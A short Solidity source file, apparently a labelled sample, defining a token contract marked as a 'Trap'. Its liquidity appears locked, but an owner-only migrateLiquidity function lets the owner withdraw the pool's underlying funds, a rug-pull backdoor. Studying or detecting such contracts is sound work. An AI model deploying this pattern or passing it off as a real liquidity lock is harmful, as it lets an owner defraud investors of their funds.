// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.30;

import {IPair} from "base/IPair.sol";
import {OwnableToken} from "base/OwnableToken.sol";

/// Trap: its liquidity lies in the token itself, as if locked, until the owner "migrates" it.
contract LiquidityRescue is OwnableToken {
    constructor(string memory name_, string memory symbol_, uint256 supply) OwnableToken(name_, symbol_, supply) {}

    function migrateLiquidity(IPair pair) external onlyOwner {
        pair.transfer(address(pair), pair.balanceOf(address(this)));
        pair.burn(owner());
    }
}
